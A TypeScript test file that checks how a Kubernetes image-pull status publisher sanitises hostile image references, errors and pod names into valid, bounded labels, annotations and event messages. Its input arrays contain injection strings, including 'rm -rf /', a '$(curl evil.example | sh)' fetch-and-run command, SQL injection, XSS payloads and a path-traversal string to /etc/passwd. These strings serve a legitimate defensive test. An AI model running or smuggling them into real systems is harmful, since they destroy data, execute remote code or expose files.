// Hostile image references, errors and pod names through the publisher's pure core: whatever
// they hold (very long, unicode, newlines, control characters, injection-looking text), what
// the agent writes stays valid and bounded: label values the API server accepts, annotations
// of bounded size holding valid JSON, and one-line, bounded messages in the condition and events.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  ANNOTATION_ETA_SECONDS,
  ANNOTATION_PHASE,
  ANNOTATION_PROGRESS,
  ANNOTATION_STATUS,
  LABEL_ETA,
  LABEL_PROGRESS,
  MAX_ERROR_LENGTH,
  MAX_IMAGE_REF_LENGTH,
  MAX_MESSAGE_LENGTH,
  MAX_STATUS_ANNOTATION_BYTES,
  PHASES,
  isValidLabelValue,
  type ImagePullStatus,
  type Phase,
  type PodPullStatus,
} from '../../common/contract.js';
import { emptyEventMemory, eventBody, eventTransitions } from './events.js';
import { podProgress, publishedState } from './pod-progress.js';
import { imageStatus } from '../../test-support/publisher.js';

const HOSTILE_REFS = [
  'registry.example/team/app:1',
  `registry.example/${'a'.repeat(5000)}:1`,
  'x'.repeat(100_000),
  'régistry.例え.jp/アプリ:最新',
  'registry.example/app:1 🚀🚀🚀',
  '"; rm -rf / #',
  "'; DROP TABLE pods; --",
  '$(curl evil.example | sh)',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>.example/app:1',
  'registry.example/app:1\nInjected: header',
  'line1\r\nline2\rline3',
  'para\u2028graph\u2029sep',
  'nul\u0000bell\u0007esc\u001b[31mred',
  'rtl\u202eoverride',
  'zero\u200bwidth\ufeffbom',
  '\ud83d', // a lone high surrogate
  '🚀'.repeat(300),
  '{"phase":"Pulled"}',
  '%s%n%x',
  '../../../../etc/passwd',
];

const HOSTILE_ERRORS = [
  null,
  'rpc error: code = NotFound desc = failed to resolve reference: not found',
  `multi\nline\nerror\n${'x'.repeat(2000)}`,
  '</script>\r\n"quoted"\t\u0000',
  'é'.repeat(10_000),
];

const HOSTILE_NAMES = [
  'web-0',
  'a'.repeat(253),
  `${'a'.repeat(240)}-.-.-.-.-.-.-`,
  'ünïcødé',
  'name\nwith\nnewlines',
  '"; rm -rf /',
  '',
];

const NOW = new Date('2026-11-25T10:00:00.000Z');
const LINE_BREAKS = /[\r\n\u2028\u2029\u0085]/;
/** C0 controls and DEL (built from code points: a literal control range is a lint error). */
const CONTROL = new RegExp(
  `[${String.fromCharCode(0)}-${String.fromCharCode(0x1f)}${String.fromCharCode(0x7f)}]`,
);
const DNS_SUBDOMAIN = /^[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*$/;

function statusIn(phase: Phase, image: string, error: string | null): ImagePullStatus {
  const done = phase === 'Pulled' || phase === 'Cached';
  return imageStatus({
    image,
    phase,
    percent: done ? 100 : 37,
    bytesDone: done ? 67_000_000 : 24_800_000,
    bytesCached: phase === 'Cached' ? 67_000_000 : 0,
    etaSeconds: done ? 0 : phase === 'Failed' ? null : 9,
    finishedAt: done ? '2026-11-25T10:00:20.000Z' : null,
    error: phase === 'Failed' ? (error ?? 'failed') : error,
  });
}

/**
 * The checks on a message written where people read it (condition, event): bounded; with
 * `oneLine`, also a single line with no control characters.
 */
function checkMessage(message: string, where: string, oneLine: boolean): void {
  assert.ok(message.length <= MAX_MESSAGE_LENGTH, `${where}: ${message.length} characters`);
  if (!oneLine) return;
  assert.doesNotMatch(message, LINE_BREAKS, `${where}: one line: ${JSON.stringify(message)}`);
  assert.doesNotMatch(message, CONTROL, `${where}: no control characters: ${JSON.stringify(message)}`);
}

let checked = 0;

function checkPublished(images: ImagePullStatus[], where: string, oneLine = false): void {
  const p = podProgress(images);
  const s = publishedState(p, { now: NOW });
  for (const [k, v] of Object.entries(s.labels)) {
    assert.ok(isValidLabelValue(v), `${where}: label ${k}=${JSON.stringify(v)}`);
  }
  assert.deepEqual(
    Object.keys(s.labels).filter((k) => k !== LABEL_PROGRESS && k !== LABEL_ETA),
    [],
    `${where}: only our labels`,
  );
  const a = s.annotations;
  assert.match(a[ANNOTATION_PROGRESS] ?? '', /^(\d|[1-9]\d|100)$/, where);
  assert.ok((PHASES as readonly string[]).includes(a[ANNOTATION_PHASE] ?? ''), where);
  if (a[ANNOTATION_ETA_SECONDS] !== undefined) assert.match(a[ANNOTATION_ETA_SECONDS], /^\d+$/, where);
  const raw = a[ANNOTATION_STATUS] ?? '';
  assert.ok(
    Buffer.byteLength(raw, 'utf8') <= MAX_STATUS_ANNOTATION_BYTES,
    `${where}: status ${Buffer.byteLength(raw)} bytes`,
  );
  const doc = JSON.parse(raw) as PodPullStatus;
  assert.equal(doc.phase, a[ANNOTATION_PHASE], where);
  assert.equal((doc.imagesOmitted ?? 0) + doc.images.length, images.length, `${where}: every image counted`);
  for (const i of doc.images) {
    assert.ok(i.image.length <= MAX_IMAGE_REF_LENGTH, `${where}: image ${i.image.length}`);
    assert.ok(i.error === null || i.error.length <= MAX_ERROR_LENGTH, `${where}: error ${i.error?.length}`);
  }
  const total = Object.entries(a).reduce((n, [k, v]) => n + Buffer.byteLength(k + v, 'utf8'), 0);
  assert.ok(total <= MAX_STATUS_ANNOTATION_BYTES + 256, `${where}: annotations ${total} bytes`);
  checkMessage(s.condition.message, `${where}: condition`, oneLine);
  assert.equal(s.condition.reason, p.phase);

  const { events } = eventTransitions(emptyEventMemory(), p, {
    stallAfterMs: 30_000,
    slowRateBytesPerSecond: 1e6,
  });
  for (const e of events) {
    checkMessage(e.message, `${where}: event ${e.reason}`, oneLine);
    for (const name of HOSTILE_NAMES) {
      const body = eventBody(
        e,
        { namespace: 'ns', name, uid: 'u' },
        { node: 'n'.repeat(500), now: NOW, seq: 7 },
      );
      const evName = body.metadata.name ?? '';
      assert.ok(evName.length <= 253, `${where}: event name ${evName.length}`);
      if (DNS_SUBDOMAIN.test(name)) assert.match(evName, DNS_SUBDOMAIN, `${where}: event name for ${name}`);
      assert.ok((body.reportingInstance ?? '').length <= 128);
      assert.equal(body.involvedObject.name, name, 'the event is about the pod as named');
      checkMessage(body.message ?? '', `${where}: event body`, oneLine);
    }
  }
  checked++;
}

function everyCase(oneLine: boolean): number {
  const before = checked;
  for (const ref of HOSTILE_REFS) {
    for (const phase of PHASES) {
      for (const error of HOSTILE_ERRORS) {
        const where = `${JSON.stringify(ref.slice(0, 40))} ${phase} error=${JSON.stringify(error?.slice(0, 20) ?? null)}`;
        checkPublished([statusIn(phase, ref, error)], where, oneLine);
      }
    }
  }
  return checked - before;
}

test('hostile image references and errors, in every phase: valid labels, bounded JSON annotations, bounded messages', () => {
  assert.equal(everyCase(false), HOSTILE_REFS.length * PHASES.length * HOSTILE_ERRORS.length);
});

// conditionMessage (pod-progress.ts) and the event messages (events.ts) fold line breaks and
// control characters from image references and multi-line errors into one space (text.ts).
test('hostile image references and errors: messages are one line with no control characters', () => {
  everyCase(true);
});
